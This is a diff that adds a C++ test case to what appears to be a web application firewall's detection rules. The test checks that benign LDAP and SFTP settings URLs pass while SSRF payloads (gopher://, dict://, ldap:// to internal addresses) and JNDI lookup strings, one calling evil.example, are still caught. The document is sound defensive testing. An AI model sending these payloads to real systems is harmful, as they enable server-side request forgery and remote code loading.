@@ -421,3 +421,17 @@ TEST_CASE("payloads moved out of the query: Node.js injection in XML and custom 
   CHECK(Has(Matches(Target::kPath, "", "/fetch/gopher://10.0.0.5:6379/_INFO"), 5003));
   CHECK(!Has(Matches(Target::kPath, "", "/api/v1/hosts/10.0.0.5/status"), 5002));  // an address, no URL
 }
+
+TEST_CASE("5003 leaves the LDAP and SFTP URLs of settings forms; internal targets and jndi: stay caught") {
+  // SSO and backup settings take such URLs: ldap:// is an SSRF signal only towards an internal address (5002).
+  CheckNotMatched({"ldaps://ldap.corp.example.com:636", "ldap://ldap.example.com:389 config",
+                   "sftp://backup.example.com/nightly"},
+                  {5003, 5002});
+  CheckCaught({{5003, "gopher://203.0.113.7:70/_x"},
+               {5003, "dict://203.0.113.7:11211/stat"},
+               {5002, "ldap://127.0.0.1:389/dc=corp"},
+               {5002, "ldap://10.0.0.5/o=x"},
+               // A lookup whose brace a second JSON decoding would restore; jndi: and a scheme are enough.
+               {6502, "$\\u007bjndi:ldap://evil.example/a}"},
+               {6502, "jndi:rmi://203.0.113.7:1099/x"}});
+}
